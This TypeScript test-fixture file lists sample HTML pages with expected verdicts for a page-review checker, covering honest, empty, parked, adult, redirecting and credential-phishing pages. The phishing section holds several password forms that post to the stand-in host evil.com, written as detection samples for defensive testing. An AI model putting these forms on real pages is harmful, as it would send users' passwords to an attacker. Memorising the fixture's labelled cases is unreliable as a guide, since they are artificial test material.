/** A page and what the page rules say of it. Also run through check and publish, which must agree. */
export interface ReviewCase {
  what: string
  html: string
  headers?: Record<string, string>
  /** Its address; of acme.com, unless given. */
  url?: string
  /** Without one, the page passes. */
  reason?: string
  detail?: string
}

type Table = [what: string, html: string, headers?: Record<string, string>, detail?: string][]

const casesOf = (table: Table, reason?: string): ReviewCase[] =>
  table.map(([what, html, headers = {}, detail]) => ({
    what,
    html,
    headers,
    ...(reason && { reason }),
    ...(detail && { detail }),
  }))

/** Under a title, so that nothing else is wrong with it. */
const titled = (table: Table): Table =>
  table.map(([what, html, ...rest]) => [what, `<title>Acme</title>${html}`, ...rest])

export const HONEST: ReviewCase[] = [
  ...casesOf([
    ['a plain one', '<title>Acme</title><h1>Widgets</h1><p>Buy them.'],
    ['a title alone', '<title>Acme</title>'],
    ['words alone', 'hello'],
    ['a number', '<p>42'],
    [
      'an application shell',
      '<title>Acme</title><div id=root></div><script src=/app.js></script><noscript>Enable scripts</noscript>',
    ],
    ['another alphabet', '<title>ウィジェット'],
    ['a login form', '<title>Acme</title><form action=/login method=post><input type=password></form>'],
    [
      'a login form on a subdomain',
      '<title>Acme</title><form action=https://login.acme.com/><input type=password></form>',
    ],
    ['a search form elsewhere', '<title>Acme</title><form action=https://search.com/><input name=q></form>'],
    ['a refresh of itself', '<title>Acme</title><meta http-equiv=refresh content=300>'],
    [
      'a refresh to its www. name',
      '<title>Acme</title><meta http-equiv=refresh content="0;url=http://www.acme.com/home">',
    ],
    ['a harmless rating', '<title>Acme</title><meta name=rating content=general>'],
    ['an adult word', '<title>Adult education: courses for grown-ups</title>'],
    ['one domain for sale', '<title>Names</title><p>This domain is for sale, among many others.'],
    [
      'a finder of names',
      '<title>Find a name</title><p>boat.dev is for sale, and mill.io is parked.<a href=https://shop.com/>Buy this domain</a>',
    ],
    ['a link to a domain market', '<title>Acme</title><p>We sold our old name.<a href=https://sedo.com/x>there</a>'],
    [
      'an article about parked domains',
      `<title>What is a parked domain?</title><p>${'Words about the history of domain names. '.repeat(100)}
       <p>They say "this domain is for sale" or "buy this domain". This domain is parked.<a href=https://sedo.com/>Sedo</a>`,
    ],
    [
      'an article about a default page',
      `<title>The Apache default page</title><p>It says "default welcome page used to test".
       <p>${'Where it comes from, and how to replace it. '.repeat(100)}`,
    ],
    ['a company of that name', '<title>It Works! Wraps</title><p>It works! So say our customers.'],
    ['parking of cars', '<title>Acme parking</title><p>Your car is parked here. Buy this place.'],
    ['house sales', '<title>Homes</title><p>This house is for sale. The page is updated daily. Make an offer.'],
  ]),
  {
    what: 'that of a domain market',
    html: '<title>Sedo</title><p>Every domain here is for sale.<a href=https://sedo.com/a>a</a><img src=https://img.sedo.com/x>',
    url: 'https://sedo.com/',
  },
]

export const EMPTY = casesOf(
  [
    '',
    ' \n ',
    '<title></title>',
    '<p>&nbsp;…!?',
    '<script src=app.js></script>',
    '<img src=a.png>',
    '<title>\u200b\u202e</title>',
    '<div hidden>words',
  ].map(html => [JSON.stringify(html), html]),
  'empty_page',
)

export const PARKED = casesOf(
  [
    ['for sale and to buy', '<title>acme.com</title><p>This domain is for sale!<a href=x>Buy this domain</a>'],
    [
      'for sale at a market',
      '<title>acme.com is for sale</title><p>Hello<a href=https://www.hugedomains.com/x>more</a>',
    ],
    ["Apache's page", '<h1>It works!'],
    [
      "the page of Debian's Apache, which is long",
      `<title>Apache2 Debian Default Page: It works</title><p>This is the default welcome page used to test the server.
       <p>${'Configuration of the server. '.repeat(110)}`,
    ],
    [
      "the page of Debian's lighttpd",
      '<title>Welcome page</title><p>This is a placeholder page installed by the Debian release of Lighttpd.',
    ],
    ['the page of Caddy', '<title>Caddy works!</title><p>Caddy is ready to serve your site over HTTPS.'],
    [
      'the page of Fedora and its relatives',
      '<title>Test Page for the HTTP Server</title><p>This page is used to test the proper operation of the server.',
    ],
    ['parked and for sale', '<p>This domain is parked free. The domain may be for sale.'],
    [
      'parked by a service',
      '<title>acme.com</title><p>acme.com is parked<script src=https://img.sedoparking.com/a.js></script>',
    ],
    [
      'only the script of a service',
      '<title>Loading</title><script src=https://d38psrni17bvxu.cloudfront.net/x.js></script>',
    ],
    ['by its own name', '<title>acme.com</title><p>acme.com is for sale. Make an offer for acme.com.'],
    ['with an offer to make', '<p>Domain for sale. Make an offer on this domain.'],
  ],
  'parked_domain',
)

export const ADULT = casesOf(
  titled([
    ['by its label', '<meta name=rating content=adult>', {}],
    ['by its RTA label', '<meta name=RATING content=RTA-5042-1996-1400-1577-RTA>', {}],
    ['by the second label', '<meta name=rating content=general><meta name=rating content=Adult>', {}],
    ['by its header', '', { rating: 'RTA-5042-1996-1400-1577-RTA' }],
    ['by one of its headers', '', { rating: 'general, adult' }],
  ]),
  'adult_content',
)

export const SENT_AWAY: ReviewCase[] = [
  ...casesOf(
    titled([
      [
        'by meta',
        '<meta http-equiv=refresh content="0;url=https://other.com/">',
        {},
        'The page sends its visitors on to other.com.',
      ],
      [
        'by a second meta',
        '<meta http-equiv=refresh content=soon><meta http-equiv=refresh content="0;url=//other.com">',
        {},
        'The page sends its visitors on to other.com.',
      ],
      ['by header', '', { refresh: '3; url=//other.com' }, 'The page sends its visitors on to other.com.'],
      [
        'by its base',
        '<base href=//other.com><meta http-equiv=refresh content="0;url=/">',
        {},
        'The page sends its visitors on to other.com.',
      ],
      [
        'inside a network',
        '<meta http-equiv=refresh content="0;url=http://10.0.0.1">',
        {},
        'The page sends its visitors on to another website.',
      ],
    ]),
    'redirects_elsewhere',
  ),
  {
    what: 'from one customer of a hosting service to another',
    html: '<title>A</title><meta http-equiv=refresh content="0;url=https://b.github.io/">',
    url: 'https://a.github.io/',
    reason: 'redirects_elsewhere',
  },
]

export const PASSWORDS = casesOf(
  titled([
    ['by its form', '<form action=https://evil.com/><input type=password></form>'],
    ['by its button', '<form><input type=password><button formaction=https://evil.com/>'],
    ['by its base', '<base href=https://evil.com><form action=/login><input type=password></form>'],
    ['by a later form', '<form><input type=password></form><form action=//evil.com/><input type=password></form>'],
    [
      'by one of two forms',
      '<form action=//hub.com/><input type=password></form><form action=//evil.com/><input type=password></form><a href=//hub.com/>Hub</a>',
    ],
    ['in a drawing', '<svg><foreignObject><form action=//evil.com/><input type=password></form></foreignObject></svg>'],
    ['with links to others', '<form action=//evil.com/><input type=password></form><a href=//evil.org/>The bank</a>'],
  ]),
  'malicious',
).map(each => ({ ...each, detail: 'The page sends passwords to evil.com.' }))

const READERS_LOGIN = '<form action=https://login.hub.com/><input type=password></form>'

/** Their passwords go to login.hub.com, and they are listed. */
export const SHARED_LOGINS: ReviewCase[] = [
  ...casesOf(
    titled([
      ['a link', `${READERS_LOGIN}<a href=https://login.hub.com/forgotten>Forgot it?</a>`],
      ['a link to the same domain', `<a href=https://www.hub.com/>Our publisher</a>${READERS_LOGIN}`],
      ['a script', `<script src=https://static.hub.com/a.js></script>${READERS_LOGIN}`],
    ]),
  ),
  { what: 'the same name under another suffix', html: `<title>Hub</title>${READERS_LOGIN}`, url: 'https://hub.co.uk/' },
]

export const REVIEW_CORPUS: readonly ReviewCase[] = [
  ...HONEST,
  ...EMPTY,
  ...PARKED,
  ...ADULT,
  ...SENT_AWAY,
  ...PASSWORDS,
  ...SHARED_LOGINS,
]
